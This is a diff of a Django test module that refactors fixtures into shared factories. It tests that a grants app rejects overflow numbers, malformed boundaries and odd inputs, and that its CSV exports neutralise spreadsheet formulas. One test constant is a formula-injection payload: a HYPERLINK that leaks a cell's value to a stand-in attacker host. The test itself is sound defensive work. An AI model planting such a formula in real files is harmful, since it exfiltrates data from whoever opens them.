@@ -16,16 +16,15 @@ from decimal import Decimal
 
 import pytest
 from django.apps import apps as django_apps
-from django.contrib.auth.models import Group
 from django.core.exceptions import ValidationError
 from django.db import DataError, IntegrityError, connection, transaction
-from django.test import Client
 from django.urls import reverse
+from factories import BRENT, SOUTHWARK, SQUARE, awarded_grant, estate, org, signed_in, user
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from vru.outputs import csvsafe
-from vru.web.accounts.models import Organisation, User
+from vru.web.accounts.models import Organisation
 from vru.web.programme import csvio, geojson, scope
 from vru.web.programme.models import (
     AGE_BAND_FIELDS,
@@ -42,45 +41,23 @@ from vru.web.programme.models import (
 
 pytestmark = pytest.mark.django_db
 
-SOUTHWARK = "E09000028"
-BRENT = "E09000005"
-SQUARE = {"type": "Polygon", "coordinates": [[[-0.088, 51.471], [-0.082, 51.471], [-0.082, 51.475],
-                                              [-0.088, 51.475], [-0.088, 51.471]]]}
 ATTACK = 2**63 - 1  # 9223372036854775807: accepted before the bounds, and SQLite's SUM then overflowed
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 COUNTS = ["sessions_delivered", *AGE_BAND_FIELDS]
 SQLITE = connection.vendor == "sqlite"
 
 
-def _user(email, role=None, org=None) -> User:
-    u = User.objects.create_user(email, None, organisation=org)
-    if role:
-        u.groups.add(Group.objects.get(name=role))
-    return u
-
-
-def _client(user=None) -> Client:
-    c = Client()
-    if user is not None:
-        c.force_login(user)
-    return c
-
-
 @pytest.fixture
 def world(db):
-    alpha = Organisation.objects.create(name="Alpha Youth (test)")
-    beta = Organisation.objects.create(name="Beta Mentors (test)")
-    area = ProgrammeArea.objects.create(name="Test estate", kind="estate", borough=SOUTHWARK,
-                                        lsoa_codes=["E01003911"], geometry=SQUARE, selected_year=2021)
+    alpha, beta = org("Alpha Youth (test)", verified=False), org("Beta Mentors (test)", verified=False)
+    area = estate(["E01003911"])
     cons = Consortium.objects.create(name="Alpha consortium", area=area, lead=alpha)
     Membership.objects.create(consortium=cons, organisation=beta)
-    grant = Grant.objects.create(reference="T-A", consortium=cons, amount_requested=Decimal("700000"))
-    grant.transition("awarded", amount_awarded=Decimal("650000"), start_date=dt.date(2021, 9, 1),
-                     end_date=dt.date(2022, 8, 31))
+    grant = awarded_grant(cons, "T-A", "700000", "650000", dt.date(2021, 9, 1), dt.date(2022, 8, 31))
     act = Intervention.objects.create(grant=grant, kind="mentoring", name="Mentoring", year=2022,
                                       sessions_delivered=100, reached_10_13=5, reached_14_17=7)
-    users = {"pm": _user("pm@example.org", "programme manager"),
-             "provider": _user("staff@alpha.example.org", "provider", alpha)}
+    users = {"pm": user("pm@example.org", "programme manager"),
+             "provider": user("staff@alpha.example.org", "provider", alpha)}
     return {"orgs": (alpha, beta), "area": area, "consortium": cons, "grant": grant, "act": act,
             "users": users}
 
@@ -114,12 +91,12 @@ def _act_post(**over):
 def test_the_attack_number_is_refused_by_the_delivery_form(world, field):
     before = _counts()
     url = reverse("programme:intervention_create", kwargs={"grant_pk": world["grant"].pk})
-    r = _client(world["users"]["provider"]).post(url, _act_post(**{field: str(ATTACK)}))
+    r = signed_in(world["users"]["provider"]).post(url, _act_post(**{field: str(ATTACK)}))
     assert r.status_code == 200
     assert _error_next_to(r.content.decode(), field, "Enter at most 1,000,000")
     assert _counts() == before
     # the largest allowed value is accepted
-    r = _client(world["users"]["provider"]).post(url, _act_post(**{field: str(MAX_COUNT)}))
+    r = signed_in(world["users"]["provider"]).post(url, _act_post(**{field: str(MAX_COUNT)}))
     assert r.status_code == 302
     assert getattr(Intervention.objects.get(name="Friday club"), field) == MAX_COUNT
 
@@ -178,7 +155,7 @@ def test_money_and_dates_are_bounded_in_the_model_the_database_and_the_forms(wor
     with pytest.raises(IntegrityError), transaction.atomic():
         early.save()
     before = _counts()
-    r = _client(pm).post(reverse("programme:grant_create"), {
+    r = signed_in(pm).post(reverse("programme:grant_create"), {
         "reference": "T-NEW", "consortium": str(cons.pk), "amount_requested": "1",
         "cap": str(too_much), "start_date": "0001-01-01", "end_date": ""})
     html = r.content.decode()
@@ -187,7 +164,7 @@ def test_money_and_dates_are_bounded_in_the_model_the_database_and_the_forms(wor
     row = ["T-IMP", "Alpha consortium", "bid", "1", "", str(too_much), "", ""]
     res = csvio.import_csv("grants", _csv([csvio.COLUMNS["grants"], row]))
     assert res.errors == ["Row 2, column cap: Enter at most £100,000,000"]
-    r = _client(pm).post(reverse("programme:grant", kwargs={"pk": world["grant"].pk}), {
+    r = signed_in(pm).post(reverse("programme:grant", kwargs={"pk": world["grant"].pk}), {
         "to_status": "extended", "end_date": "2023-03-31", "additional_amount": "1e15"})
     assert r.status_code == 200 and "govuk-error-summary" in r.content.decode()
     assert _counts() == before
@@ -214,7 +191,7 @@ def _max_world(w, n_grants=8, n_per_grant=40):
 def test_largest_allowed_values_in_many_rows_keep_every_roll_up_answering(world, settings, london_warehouse):
     settings.VRU_WAREHOUSE = str(london_warehouse)
     n = _max_world(world)
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     for url in [reverse("programme:index"), reverse("dashboard:overview"),
                 reverse("dashboard:borough", args=[SOUTHWARK]),
                 *(reverse("programme:export", kwargs={"table": f"rollup-{by}"}) for by in scope.ROLLUP_BY),
@@ -263,7 +240,7 @@ def test_a_row_stored_before_the_bounds_does_not_take_the_register_down(world, s
                                         reached_under_10=ATTACK)
         finally:
             cur.execute("PRAGMA ignore_check_constraints = OFF")
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     for url in [reverse("programme:index"), reverse("dashboard:overview"),
                 reverse("programme:export", kwargs={"table": "rollup-area"}),
                 reverse("programme-api-rollup", kwargs={"by": "year"})]:
@@ -309,7 +286,7 @@ def test_every_export_neutralises_formulas_and_imports_back_to_the_same_records(
                      end_date=dt.date(2023, 1, 1))
     for i, text in enumerate(TEXTS):
         Intervention.objects.create(grant=grant, kind="other", name=text, year=2022, sessions_delivered=i)
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     files = {t: _export(pm, t) for t in csvio.TABLES}
     rollups = {by: _export(pm, f"rollup-{by}") for by in scope.ROLLUP_BY}
     for name, data in [*files.items(), *rollups.items()]:
@@ -404,7 +381,7 @@ def test_a_boundary_over_the_csv_modules_default_limit_round_trips(world):
     big = _circle(6000)
     text = json.dumps(big, separators=(",", ":"))
     assert len(text) > 131_072
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     f = io.BytesIO(text.encode())
     f.name = "big.geojson"
     r = pm.post(reverse("programme:area_create"), _area_post(geometry="", geometry_file=f))
@@ -460,7 +437,7 @@ BAD_BOUNDARIES = [
 @pytest.mark.parametrize("text, message", BAD_BOUNDARIES)
 def test_bad_boundaries_are_a_message_next_to_the_field_and_nothing_is_saved(world, text, message):
     before = _counts()
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     r = pm.post(reverse("programme:area_create"), _area_post(geometry=text))
     assert r.status_code == 200
     html = r.content.decode()
@@ -493,7 +470,7 @@ def test_reading_a_boundary_takes_time_linear_in_its_size(text):
 def test_extra_keys_are_dropped_and_the_canonical_boundary_is_stored(world):
     extra = {**SQUARE, "bbox": [-0.088, 51.471, -0.082, 51.475], "name": "x", "properties": {"a": [1]},
              "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}
-    r = _client(world["users"]["pm"]).post(reverse("programme:area_create"),
+    r = signed_in(world["users"]["pm"]).post(reverse("programme:area_create"),
                                            _area_post(geometry=json.dumps(extra)))
     assert r.status_code == 302
     assert ProgrammeArea.objects.get(name="Large estate (test)").geometry == SQUARE
@@ -506,7 +483,7 @@ def test_extra_keys_are_dropped_and_the_canonical_boundary_is_stored(world):
 def test_a_stored_bad_boundary_cannot_take_down_the_api_or_the_pages(world):
     """Rows written before these rules: shown without a boundary (or with the canonical one), never a 500."""
     area = world["area"]
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     far = {"type": "Polygon", "coordinates": [[[100, 80], [101, 80], [101, 81], [100, 80]]]}
     bowtie = {"type": "Polygon", "coordinates": [[[-0.09, 51.47], [-0.08, 51.48], [-0.08, 51.47],
                                                   [-0.09, 51.48], [-0.09, 51.47]]]}
@@ -538,15 +515,15 @@ def test_the_admin_reads_json_strictly(world):
     area = world["area"]
     data = {"name": area.name, "kind": "estate", "borough": SOUTHWARK, "selected_year": "2021",
             "funding_round": "1", "lsoa_codes": '["E01003911"]', "geometry": "[" * 100_000}
-    r = _client(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
+    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
     assert r.status_code == 200 and "nested more than 20 levels deep" in r.content.decode()
     data["geometry"] = json.dumps({**SQUARE, "x": "\ud800"})
-    r = _client(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
+    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
     assert r.status_code == 200 and "lone surrogate" in r.content.decode()
     area.refresh_from_db()
     assert area.geometry == SQUARE
     data["geometry"] = json.dumps({**SQUARE, "bbox": [0, 0, 0, 0]})
-    r = _client(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
+    r = signed_in(pm).post(f"/admin/programme/programmearea/{area.pk}/change/", data)
     assert r.status_code == 302
     area.refresh_from_db()
     assert area.geometry == SQUARE
@@ -555,7 +532,7 @@ def test_the_admin_reads_json_strictly(world):
 # --- other input the app parses -------------------------------------------------------------------------
 
 def test_odd_numbers_in_query_strings_and_import_keys_are_not_a_crash(world):
-    pm = _client(world["users"]["pm"])
+    pm = signed_in(world["users"]["pm"])
     for value in ["²", "٣", "9" * 5000, "99999999999999999999999"]:
         assert pm.get(reverse("programme:consortium_create"), {"area": value}).status_code == 200
         assert pm.get(reverse("programme:grant_create"), {"consortium": value}).status_code == 200
